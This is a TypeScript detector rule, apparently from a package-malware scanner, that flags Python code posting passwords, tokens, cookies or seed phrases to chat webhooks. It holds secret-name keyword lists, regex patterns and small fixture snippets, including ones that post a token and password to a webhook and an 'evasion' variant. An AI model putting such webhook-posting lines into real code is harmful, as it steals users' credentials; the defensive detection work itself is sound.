import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import { codeWith, sight } from "./_sight.ts";

const WORDS = ["token", "passw", "pass:", "cookie", "billing", "seed", "wallet", "private", "refresh"] as const;
/** A message as chat services take it. */
const MESSAGE = /["'](?:content|embeds|caption|text|description)["']\s{0,4}:|@everyone|`{3}/;
/** A secret with its name before it, filled into the message: `Token: {token}`. */
const NAMED =
  /(?:\\[nrt]|\b)(?:access ?token|refresh ?token|session ?token|token|ssid|session ?id|passwords?|passwd|pass|cookies?|billing|nitro|2fa|seed(?: ?phrase)?|private ?key|mnemonic|wallet)\b[*_`"' ]{0,8}[:=][^{}\n%+]{0,14}(?:\{|%s|["'`*] {0,2}\+)/i;
/** Characters of the arguments that are read. */
const MOST = 3_000;

export const reportsSecretsToChat: Detector = {
  id: "reports-secrets-to-chat",
  title: "Sends a chat message that reports passwords or tokens",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 5.8,
  class: "threat",
  group: "exfiltration",
  why: `A message for a chat service is filled with something that the message itself calls a token, password, cookie or seed phrase, and
posted. Stealers report their catch this way, nicely formatted, to a webhook of their author's.

Honest programs give tokens to the service they belong to, in headers, and do not write them into messages.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (file.kind !== "python" || !MESSAGE.test(file.text)) continue;
      for (const deed of deedsOf(file, "upload")) {
        const words = file.text.slice(deed.offset, deed.offset + Math.min(MOST, deed.words.length + 1_500));
        const own = words.split(/\n\s{0,20}(?:def|class|return)\b/, 1)[0] ?? "";
        const named = MESSAGE.test(own) ? NAMED.exec(own) : null;
        if (named !== null) yield sight(file, deed.offset, `${deed.what} reports ${named[0]}`, { phase: deed.phase });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\ndef login(user, key, word):\n    requests.post(hook, json={'content': f'User: {user} Token: {key} Pass: {word}'})\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\ndef say(token, text):\n    requests.post(url, json={'content': text}, headers={'Authorization': f'Bot {token}'})\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests as r\nr.post(h, data={'embeds': [{'description': '**Token:** `' + t + '`'}]})\n",
        },
      },
    ],
  },
};
